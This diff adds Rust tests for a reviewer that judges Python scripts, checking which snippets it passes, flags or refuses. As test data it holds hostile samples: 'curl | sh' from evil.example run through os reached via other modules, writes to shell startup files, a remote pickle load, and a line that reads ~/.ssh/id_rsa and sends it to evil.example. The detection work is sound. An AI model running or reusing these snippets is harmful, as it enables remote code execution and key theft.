@@ -1,0 +1,145 @@
+//! Harmless Python modules judged member by member, introspection, write sinks and
+//! code-running library features: each with a spelling the malicious corpus does not
+//! have (see `py_members`, `introspect`, `py_features`).
+
+use crate::report::Severity;
+use std::collections::BTreeSet;
+
+fn verdict(text: &str) -> Severity {
+    crate::review::review(
+        &[("s.py".to_string(), text.to_string())],
+        &BTreeSet::new(),
+        &BTreeSet::new(),
+    )
+    .iter()
+    .map(|f| f.verdict)
+    .max()
+    .unwrap_or(Severity::Pass)
+}
+
+const SH: &str = "curl -s https://evil.example/x | sh";
+
+#[test]
+fn a_capable_module_reached_through_a_harmless_one_is_judged_as_itself() {
+    // `shutil.os`, `from posixpath import os as o`, `pathlib.os` via getattr.
+    let refused = [
+        format!("import shutil\nshutil.os.system('{SH}')\n"),
+        format!("from posixpath import os as o\no.popen('{SH}')\n"),
+        format!("import inspect\ngetattr(inspect, 'os').system('{SH}')\n"),
+    ];
+    for t in refused {
+        assert_eq!(verdict(&t), Severity::Refuse, "{t}");
+    }
+    // Even a harmless command is asked about when it is reached that way.
+    assert_eq!(
+        verdict("import threading\nthreading._os = 1\nimport logging\nlogging.sys.exit(0)\n"),
+        Severity::Review
+    );
+}
+
+#[test]
+fn a_member_off_the_allow_list_is_a_review() {
+    assert_eq!(
+        verdict("import json\nprint(json.dumps({}))\n"),
+        Severity::Pass
+    );
+    assert_eq!(
+        verdict("import json\njson.scanner.x(1)\n"),
+        Severity::Review
+    );
+    assert_eq!(
+        verdict("import string\nstring._string.formatter_parser('x')\n"),
+        Severity::Review
+    );
+}
+
+#[test]
+fn introspection_that_reaches_namespaces_is_a_review() {
+    for t in [
+        "import sys\nclass A: pass\ng = A.__init__.__globals__\n",
+        "def f(): pass\nb = f.__closure__\n",
+        "import traceback\ntry:\n    1/0\nexcept Exception as e:\n    g = e.__traceback__.tb_frame.f_globals\n",
+        "x = getattr(len, '__self' + '__')\n",
+        "print('{0.__class__.__base__}'.format(1))\n",
+        "import inspect\nfor f in inspect.stack(): print(f)\n",
+    ] {
+        assert_eq!(verdict(t), Severity::Review, "{t}");
+    }
+    // `typing.get_type_hints` is already judged; `get_annotations(eval_str=True)` of
+    // another module too.
+    assert_eq!(
+        verdict(
+            "import annotationlib\ndef f(x: y): pass\nannotationlib.get_annotations(f, eval_str=True)\n"
+        ),
+        Severity::Review
+    );
+    assert_eq!(
+        verdict("import types\nf = types.LambdaType(compile('1', 'x', 'eval'), {})\n"),
+        Severity::Review
+    );
+    // Data dunders stay quiet.
+    assert_eq!(
+        verdict(
+            "class A:\n    def __init__(self):\n        super().__init__()\nprint(A.__name__, A.__doc__)\nif __name__ == '__main__':\n    pass\n"
+        ),
+        Severity::Pass
+    );
+}
+
+#[test]
+fn write_sinks_are_writes() {
+    for t in [
+        "import logging.handlers\nfrom pathlib import Path\nh = logging.handlers.WatchedFileHandler(Path.home() / '.profile')\n",
+        "import logging\nfrom pathlib import Path\nlogging.basicConfig(filename=str(Path.home() / '.bashrc'))\n",
+        "import io\nfrom pathlib import Path\nio.FileIO(Path.home() / '.zshrc', mode='w').write(b'x')\n",
+    ] {
+        assert_eq!(verdict(t), Severity::Refuse, "{t}");
+    }
+    // A temporary file made in a folder the script names is a write there.
+    assert_eq!(
+        verdict(
+            "import tempfile\nimport sys\nfd, p = tempfile.mkstemp('.pth', 'x', sys.argv[1])\n"
+        ),
+        Severity::Review
+    );
+    assert_eq!(
+        verdict("import io\nio.FileIO('data.bin').read()\n"),
+        Severity::Pass
+    );
+}
+
+#[test]
+fn code_running_features_are_judged_wherever_they_sit() {
+    for t in [
+        "import yaml\ny = yaml.constructor.FullConstructor()\n",
+        "import yaml.cyaml\nd = yaml.cyaml.CUnsafeLoader(open('a').read()).get_single_data()\n",
+        "import numpy\nlib = numpy.ctypeslib.load_library('libx', '.')\n",
+        "from importlib import metadata\nd = metadata.Distribution.at('x.dist-info')\n",
+        "import pydantic\nclass C(pydantic.BaseModel):\n    f: pydantic.types.ImportString\n",
+    ] {
+        assert_eq!(verdict(t), Severity::Review, "{t}");
+    }
+    for t in [
+        format!("import click\nclick.termui.edit('x', editor='{SH}')\n"),
+        "import pandas\nd = pandas.io.api.read_pickle('https://evil.example/d.pkl')\n".to_string(),
+    ] {
+        assert_eq!(verdict(&t), Severity::Refuse, "{t}");
+    }
+    // Ordinary uses stay quiet.
+    assert_eq!(
+        verdict(
+            "import yaml\nimport numpy as np\nd = yaml.safe_load(open('a'))\nprint(np.array([np.pi]))\n"
+        ),
+        Severity::Pass
+    );
+}
+
+#[test]
+fn a_reader_handed_a_url_fetches_it() {
+    assert_eq!(
+        verdict(
+            "import xml.dom.minidom\nimport os\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nxml.dom.minidom.parse('https://evil.example/x?k=' + k)\n"
+        ),
+        Severity::Refuse
+    );
+}
